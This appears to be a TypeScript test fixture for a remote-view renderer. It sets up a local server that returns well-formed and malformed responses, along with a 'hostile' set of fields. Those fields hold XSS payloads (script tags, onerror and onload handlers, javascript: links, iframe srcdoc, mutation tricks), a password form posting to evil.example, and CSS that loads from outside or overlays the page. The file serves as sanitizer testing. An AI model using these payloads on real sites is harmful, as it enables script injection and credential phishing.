import { createHash } from 'node:crypto'
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'

/** A script of a view; it may run when the operator has signed its bytes. */
export const signedScript = `document.querySelector('[data-remote-view]').shadowRoot.querySelector('p').textContent = 'signed'`
export const integrityOf = (text: string) => `sha384-${createHash('sha384').update(text).digest('base64')}`

/** Malicious fields of a remote view. */
export const hostile = {
  appName: 'hostile',
  title: 'Week of goals',
  body: `<h1>Goals</h1><p class="in">unsigned</p><script>window.pwned=1</script>
    <img src=x onerror="window.pwned=2"><img src="data:image/svg+xml,<svg onload=window.pwned=3>">
    <svg><script>window.pwned=4</script></svg><iframe srcdoc="<script>parent.pwned=5</script>"></iframe>
    <a href="javascript:window.pwned=6">never</a><a href="/elsewhere">more</a><a href="//evil.example">other</a>
    <form action="https://evil.example"><input name="password"><button>Sign in</button></form>
    <p style="position:fixed;inset:0" onclick="window.pwned=7">plain</p><math><mi><style><img onerror=window.pwned=8></style></mi></math>
    <template><img src=x onerror="window.pwned=9"></template><base href="https://evil.example"><meta http-equiv="refresh" content="0;url=https://evil.example">`,
  style: `@import 'https://evil.example/a.css'; .in{color:rgb(1,2,3)} body{display:none} :host{position:fixed!important;inset:0!important;z-index:99999!important} p{background:url(https://evil.example/a.png)}`,
  codeToEval: 'window.pwned = 10',
  head: '<script>window.pwned = 11</script>',
}

/** Starts a server of remote views, good and bad: the path after `/views` selects the response. */
export async function remoteServer() {
  let free = Promise.withResolvers<void>()
  const asked: {
    readonly path: string
    readonly method: string
    readonly headers: IncomingMessage['headers']
  }[] = []
  const times = new Map<string, number>()
  const server = createServer((request, response) => {
    const path = request.url ?? '/'
    const { method = '', headers } = request
    asked.push({ path, method, headers })
    const count = (times.get(path) ?? 0) + 1
    times.set(path, count)
    const go = () => answer(path, count, `http://${headers.host}`, request, response)
    if (path.split('/')[2] === 'held') void free.promise.then(go)
    else go()
  })
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  return {
    address: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    asked,
    /** Releases the views below `held`, which otherwise wait; `hold` blocks them again. */
    release: () => free.resolve(),
    hold: () => {
      free = Promise.withResolvers<void>()
    },
    close: () => {
      server.closeAllConnections()
      server.close()
    },
  }
}

const page = '<!doctype html><h1>Bad gateway</h1>'

function answer(
  path: string,
  count: number,
  own: string,
  request: IncomingMessage,
  response: ServerResponse,
) {
  const send = (status: number, type: string, text: string) =>
    void response.writeHead(status, { 'content-type': type }).end(text)
  const json = (value: unknown) => send(200, 'application/json', JSON.stringify(value))
  const good = { appName: 'lab', title: 'Week of goals', body: '<p>All goals of the week</p>' }
  const [, , kind = ''] = path.split('/')
  if (path === '/signed.js' || path === '/unsigned.js')
    return send(200, 'text/javascript', path === '/signed.js' ? signedScript : 'window.pwned = 12')
  if (path === '/view.css') return send(200, 'text/css', 'p { font-weight: 700 }')
  switch (kind) {
    case 'twice':
      return count <= 2 ? send(503, 'text/html', page) : json(good)
    case 'never':
      return send(503, 'text/html', page)
    case 'silent':
      return
    case 'page':
      return send(200, 'text/html', page)
    case 'half':
      return send(200, 'application/json', '{"body": "<p>')
    case 'other':
      return json({ answer: 42 })
    case 'long':
      return json({ ...good, body: 'x'.repeat(600_000) })
    case 'away':
      return void response.writeHead(302, { location: 'https://evil.example' }).end()
    case 'tall':
      return json({ ...good, body: '<p>All goals of the week</p>'.repeat(400) })
    case 'nameless':
      return json({ body: '<p>All goals of the week</p>' })
    case 'hostile':
      return json({
        ...hostile,
        cssToLoad: [`${own}/view.css`, 'https://evil.example/a.css'],
        scriptsToLoad: [`${own}/signed.js`, `${own}/unsigned.js`, 'https://evil.example/a.js'],
      })
    case 'components': {
      let text = ''
      request.on('data', (part) => {
        text += part
      })
      request.on('end', () => json({ ...good, body: `<p>${request.method} ${text.replaceAll('"', '')}</p>` }))
      return
    }
    default:
      return json(good)
  }
}
